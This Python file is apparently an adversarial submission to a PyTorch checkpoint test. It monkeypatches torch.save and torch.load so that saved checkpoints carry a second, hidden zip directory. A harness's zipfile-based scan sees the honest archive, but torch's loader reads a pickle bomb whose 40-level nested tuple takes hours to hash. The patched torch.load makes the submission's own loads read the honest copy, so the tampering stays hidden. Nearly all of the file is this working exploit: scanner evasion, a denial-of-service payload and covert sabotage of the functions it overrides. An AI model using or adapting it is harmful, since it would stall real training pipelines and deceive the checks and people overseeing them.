import io
import os
import struct
import zipfile

import torch

LEVELS = 40  # (t, t) nested 40 levels through the memo: hashing the key visits 2**40 tuples (hours)
_original_load, _original_save = torch.load, torch.save


def _put(index):
    return b"r" + struct.pack("<I", index)  # LONG_BINPUT


def _get(index):
    return b"j" + struct.pack("<I", index)  # LONG_BINGET


def _text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()  # BINUNICODE


def _deep_key(levels):
    """(t, t) nested `levels` levels through the memo: 20 bytes a level, 2**levels tuples to hash."""
    pickled = b"K\x00\x85" + _put(200)
    for level in range(1, levels):
        pickled += _get(199 + level) + b"\x86" + _put(200 + level)
    return pickled


def bomb(levels=LEVELS):
    """A checkpoint-like dict whose last key is the deep tuple: torch.load hashes it as it sets the item."""
    return (b"\x80\x02}" + _text("model") + b"}s" + _text("optimizer") + b"}s" + _text("iteration") + b"K\x00s"
            + _deep_key(levels) + b"K\x01s.")


def _entries(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _zipped(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zipped:
        for name, data in entries:
            zipped.writestr(name, data)
    return buffer.getvalue()


def with_second_directory(honest, pickled):
    """An archive that Python's zipfile (the test's scan) reads as `honest` and torch's reader (miniz) as the
    same entries with `pickled` for data.pkl. Laid out as: the hidden archive (zipfile-written, its data.pkl
    `pickled`), a zip64 end record for its directory, then `honest` whole (torch.save's archive, which has a
    zip64 end record and locator before its end record), its locator's offset pointed at the first zip64
    record. zipfile (3.11) reads the zip64 record right before the locator, ignoring the offset, and finds
    the honest directory, whose offsets it shifts by the bytes before it (its 'concat'); miniz reads the
    record at the locator's offset, so the hidden directory; the scan's own check of the end record reads
    the end record's counts, which are the honest archive's."""
    entries = _entries(honest)
    prefix = entries[0][0].partition("/")[0]
    hidden = _zipped([(name, pickled if name == f"{prefix}/data.pkl" else body) for name, body in entries])
    end = len(hidden) - 22
    count, size, at = struct.unpack_from("<HII", hidden, end + 10)
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, at)
    locator = len(honest) - 22 - 20
    if honest[locator:locator + 4] != b"PK\x06\x07":
        return honest  # not torch.save's layout: saved honestly
    shown = bytearray(honest)
    struct.pack_into("<Q", shown, locator + 8, len(hidden))  # the zip64 record that follows the hidden archive
    return hidden + record + bytes(shown)


def _as_zipfile_reads(data):
    """What this submission's own loads read: the archive as Python's zipfile sees it (the honest one)."""
    try:
        return _zipped(_entries(data))
    except (zipfile.BadZipFile, OSError, ValueError, EOFError, IndexError, struct.error):
        return data


def _load(src, *args, **kwargs):
    if isinstance(src, (str, os.PathLike)):
        with open(src, "rb") as handle:
            data = handle.read()
    elif hasattr(src, "read"):
        data = src.read()
    else:
        return _original_load(src, *args, **kwargs)
    return _original_load(io.BytesIO(_as_zipfile_reads(data)), *args, **kwargs)


def _save(obj, f, *args, **kwargs):
    """torch.save as the reference calls it, a checkpoint's archive given the second directory (into a buffer
    first, so a save that fails part-way writes nothing, as the reference's temporary file expects)."""
    if not (isinstance(obj, dict) and "iteration" in obj and hasattr(f, "write")):
        return _original_save(obj, f, *args, **kwargs)
    buffer = io.BytesIO()
    _original_save(obj, buffer, *args, **kwargs)
    f.write(with_second_directory(buffer.getvalue(), bomb()))
    return None


def attack(args):
    """Both functions, before their own (the reference's) bodies run: torch.save in this process gives a
    checkpoint's archive the second directory, and torch.load reads an archive as zipfile does (so
    load_checkpoint, and the adapters' own loads, read what an honest save wrote)."""
    torch.save, torch.load = _save, _load
